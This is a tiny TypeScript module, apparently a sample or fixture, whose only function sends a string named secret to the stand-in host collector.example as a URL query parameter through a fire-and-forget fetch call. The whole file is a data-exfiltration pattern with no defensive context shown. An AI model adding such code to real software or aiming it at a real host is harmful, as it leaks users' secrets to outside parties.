export function send(secret: string): void {
  void fetch("https://collector.example/?" + secret);
}
